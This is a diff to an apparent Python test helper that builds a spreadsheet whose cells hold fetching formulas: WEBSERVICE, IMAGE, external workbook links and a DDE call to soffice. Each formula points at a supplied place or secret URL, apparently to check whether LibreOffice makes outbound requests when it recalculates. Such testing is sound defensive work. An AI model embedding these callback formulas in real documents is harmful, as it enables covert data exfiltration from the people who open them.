@@ -84,12 +84,12 @@ def _sheet(place: str, secret: str) -> bytes:
     """Formulas that fetch; they have no value, so that LibreOffice calculates them."""
     book = openpyxl.Workbook()
     for formula in (
-        f'=WEBSERVICE("{place}/a")',
-        f'=WEBSERVICE("{secret}")',
+        f'=_xlfn.WEBSERVICE("{place}/a")',
+        f'=_xlfn.WEBSERVICE("{secret}")',
         f"='{place}/[b.xlsx]Sheet1'!A1",
         f"='{secret}'#$Sheet1.A1",
         f'=DDE("soffice";"{secret}";"Sheet1.A1")',
-        f'=IMAGE("{place}/c.png")',
+        f'=_xlfn.IMAGE("{place}/c.png")',
     ):
         book.active.append([WORDS, formula])
     return saved(book)
